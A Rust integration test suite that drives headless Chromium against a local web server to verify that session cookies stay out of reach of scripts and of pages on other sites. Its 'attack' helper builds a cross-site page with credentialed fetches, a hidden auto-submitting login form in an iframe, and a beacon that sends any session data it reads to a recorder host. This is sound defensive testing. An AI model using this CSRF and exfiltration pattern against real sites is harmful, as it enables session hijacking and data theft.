//! Sessions in a real browser, and what a page of another site gets out of it.

use std::fs;
use std::io::{BufRead as _, BufReader, Write as _};
use std::net::{Ipv4Addr, SocketAddr, TcpListener, TcpStream};
use std::process::{Child, Command, Stdio};
use std::sync::{Arc, Mutex};
use std::thread;

use tempfile::TempDir;

use crate::fixture::Fixture;
use crate::http::component;
use crate::server::until;
use crate::session::{House, NAME, PASSWORD, SETUP, Setup, Store, in_stores};

/// A browser that shows a page until it is dropped.
struct Browser {
    process: Child,
    _profile: TempDir,
}

impl Browser {
    fn open(url: &str) -> Self {
        let profile = TempDir::new().expect("a temporary directory");
        let process = Command::new("chromium")
            .args([
                "--headless=new",
                "--no-sandbox",
                "--disable-gpu",
                "--no-first-run",
            ])
            .args(["--disable-dev-shm-usage", "--disable-background-networking"])
            .args(["--disable-component-update", "--remote-debugging-port=0"])
            .arg(format!("--user-data-dir={}", profile.path().display()))
            .arg(url)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("Chromium is missing: scripts/test installs it");
        Self {
            process,
            _profile: profile,
        }
    }
}

impl Drop for Browser {
    fn drop(&mut self) {
        // It may have ended already.
        let _killed = self.process.kill();
        let _ended = self.process.wait();
    }
}

/// A server of pages that is somebody else's, and notes what it is asked. It ends with the process.
struct Elsewhere {
    address: SocketAddr,
    /// The heads of requests so far.
    heard: Arc<Mutex<Vec<String>>>,
}

impl Elsewhere {
    /// Serves this page for every path.
    fn start(page: String) -> Self {
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).expect("a port is free");
        let address = listener.local_addr().expect("it has an address");
        let heard = Arc::new(Mutex::new(Vec::new()));
        let hearing = Arc::clone(&heard);
        thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let (page, hearing) = (page.clone(), Arc::clone(&hearing));
                // A browser opens connections that it does not use at once.
                thread::spawn(move || answer(&stream, &page, &hearing));
            }
        });
        Self { address, heard }
    }

    /// Waits for a page that says it has come to its end, and gives what it has said before.
    fn told(&self) -> String {
        let mut told = None;
        until("a page has come to its end", || {
            let heard = self.heard.lock().expect("nobody panics");
            let heads = heard.iter();
            told = heads
                .filter_map(|head| head.strip_prefix("GET /told/"))
                .find_map(|rest| rest.split(' ').next().map(str::to_owned));
            told.is_some()
        });
        told.expect("just seen")
    }

    /// The address of a path.
    fn url(&self, path: &str) -> String {
        format!("http://127.0.0.1:{}{path}", self.address.port())
    }

    /// The heads of requests for a path.
    fn heard(&self, path: &str) -> Vec<String> {
        let heard = self.heard.lock().expect("nobody panics");
        let is_meant = |head: &&String| head.starts_with(&format!("GET {path} "));
        heard.iter().filter(is_meant).cloned().collect()
    }
}

fn answer(mut stream: &TcpStream, page: &str, heard: &Mutex<Vec<String>>) {
    let mut head = String::new();
    let mut lines = BufReader::new(stream);
    while !head.ends_with("\r\n\r\n") {
        if lines.read_line(&mut head).unwrap_or_default() == 0 {
            return;
        }
    }
    heard.lock().expect("nobody panics").push(head);
    let response = format!(
        "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{page}",
        page.len()
    );
    // A browser that has ended needs no answer.
    let _gone = stream.write_all(response.as_bytes());
}

/// A house that serves these pages.
fn with_pages(store: Store, pages: &[(&str, String)]) -> House {
    let fixture = Fixture::copy("fixture.sql");
    let folder = fixture.directory().join("public");
    fs::create_dir(&folder).expect("the directory is ours");
    for (name, page) in pages {
        fs::write(folder.join(name), page).expect("the directory is ours");
    }
    let setup = Setup {
        http: "static = \"public\"",
        ..SETUP
    };
    let redis = (store == Store::Redis).then(crate::redis::RedisServer::start);
    House::over(fixture, redis, store, setup)
}

/// A page that does something, and tells the recorder what it has said if it comes to its end.
fn page(script: &str, recorder: &Elsewhere) -> String {
    let told = recorder.url("/told/");
    format!(
        "<!doctype html><title>x</title><script type=\"module\">\n\
        const said = [];\n\
        const say = (text) => said.push(text);\n\
        const json = {{'Content-Type': 'application/json'}};\n\
        {script}\n\
        if (said.length) await fetch('{told}' + encodeURIComponent(said.join(';')), {{mode: 'no-cors'}});</script>"
    )
}

#[test]
fn a_browser_keeps_the_session_of_this_machine_out_of_reach_of_scripts() {
    in_stores(&[Store::Database, Store::Cookie], SETUP, |house| {
        let script = format!(
            "const ask = async (method, path, body) => \
               (await fetch(path, {{method, headers: json, body: body && JSON.stringify(body)}})).status;\n\
            say('put ' + await ask('PUT', '/-/session/data', {{a: 1}}));\n\
            say('kind ' + (await (await fetch('/-/session')).json()).kind);\n\
            say('up ' + await ask('POST', '/-/users', {{email: 'ada@example.org', password: '{PASSWORD}'}}));\n\
            const who = await (await fetch('/-/session')).json();\n\
            say('kind ' + who.kind + ' ' + JSON.stringify(who.data));\n\
            say('scripts see [' + document.cookie + ']');\n\
            say('out ' + await ask('DELETE', '/-/session'));\n\
            say('kind ' + (await (await fetch('/-/session')).json()).kind);"
        );
        for host in ["127.0.0.1", "localhost"] {
            let recorder = Elsewhere::start(String::new());
            let house = with_pages(house.store, &[("in.html", page(&script, &recorder))]);
            let port = house.server.address().port();
            let _browser = Browser::open(&format!("http://{host}:{port}/in.html"));
            let expected = "put 200;kind visitor;up 201;kind user {\"a\":1};scripts see [];out 204;kind anyone";
            assert_eq!(recorder.told(), component(expected), "{host}");
        }
    });
}

/// A page of another site, which attacks with whatever needs no leave, tells what it could read, and leads back.
fn attack(ours: &str, recorder: &Elsewhere) -> String {
    let (pixel, password) = (recorder.url(""), PASSWORD.replace(' ', "+"));
    page(
        &format!(
            "const ours = '{ours}';\n\
            const tries = [\n\
              ['/-/session', {{method: 'POST', headers: {{'Content-Type': 'application/x-www-form-urlencoded'}}, \
                body: 'email=eve%40example.org&password={password}'}}],\n\
              ['/-/session/data', {{method: 'POST', headers: {{'Content-Type': 'text/plain'}}, body: '{{\"planted\":1}}'}}],\n\
              ['/-/session/data', {{method: 'PUT', headers: json, body: '{{\"planted\":1}}', mode: 'cors'}}],\n\
              ['/-/session', {{method: 'DELETE', mode: 'cors'}}],\n\
              ['/-/users/me', {{method: 'DELETE', mode: 'cors'}}],\n\
            ];\n\
            for (const [path, options] of tries) \
              await fetch(ours + path, {{mode: 'no-cors', credentials: 'include', ...options}}).catch(() => 0);\n\
            const read = await fetch(ours + '/-/session', {{credentials: 'include'}}).then((r) => r.text(), () => 'nothing');\n\
            await fetch('{pixel}/from-abroad', {{mode: 'no-cors', credentials: 'include'}}).catch(() => 0);\n\
            const form = document.createElement('form');\n\
            const frame = document.createElement('iframe');\n\
            frame.name = 'frame'; document.body.append(frame);\n\
            form.action = ours + '/-/session'; form.method = 'POST'; form.target = 'frame';\n\
            for (const [name, value] of [['email', 'eve@example.org'], ['password', '{PASSWORD}']]) {{\n\
              const input = document.createElement('input');\n\
              input.name = name; input.value = value; form.append(input);\n\
            }}\n\
            document.body.append(form);\n\
            const loaded = new Promise((resolve) => {{ frame.onload = resolve; setTimeout(resolve, 500); }});\n\
            form.submit();\n\
            await loaded;\n\
            await fetch('{pixel}/read-' + encodeURIComponent(read).slice(0, 40), {{mode: 'no-cors'}});\n\
            location = ours + '/end.html';",
        ),
        recorder,
    )
}

#[test]
fn a_page_of_another_site_neither_uses_nor_replaces_nor_reads_a_session() {
    in_stores(&[Store::Database, Store::Cookie], SETUP, |house| {
        // Cookies are of a host, whatever its port: this one hears what browsers send along to ours.
        let recorder = Elsewhere::start(String::new());
        let pixel = recorder.url("");
        let begin = |next: &str| {
            page(
                &format!(
                    "await fetch('/-/users', {{method: 'POST', headers: json, body: \
                    JSON.stringify({{email: 'ada@example.org', password: '{PASSWORD}'}})}});\n\
                await fetch('{pixel}/from-home', {{mode: 'no-cors', credentials: 'include'}});\n\
                location = '{next}';"
                ),
                &recorder,
            )
        };
        let end = page(
            "const who = await (await fetch('/-/session')).json();\n\
            say('in the end ' + who.kind + ' ' + who.user?.email + ' ' + JSON.stringify(who.data));",
            &recorder,
        );
        let folder = [("end.html", end)];
        let house = with_pages(house.store, &folder);
        let ours = format!("http://127.0.0.1:{}", house.server.address().port());
        house.user("eve@example.org");
        let attack = attack(&ours, &recorder);
        let abroad = Elsewhere::start(attack);
        let next = format!("http://localhost:{}/", abroad.address.port());
        let public = house.server.fixture().directory().join("public");
        fs::write(public.join("begin.html"), begin(&next)).expect("the directory is ours");

        let _browser = Browser::open(&format!("{ours}/begin.html"));
        let expected = component("in the end user ada@example.org {}");
        assert_eq!(recorder.told(), expected);
        // The cookie goes along where our own pages ask, and nowhere else.
        let [home] = recorder.heard("/from-home").try_into().expect("asked once");
        assert!(home.contains(NAME), "{home}");
        let [abroad] = recorder
            .heard("/from-abroad")
            .try_into()
            .expect("asked once");
        assert!(!abroad.contains(NAME), "{abroad}");
        assert_eq!(
            recorder.heard("/read-nothing").len(),
            1,
            "it read something"
        );
    });
}
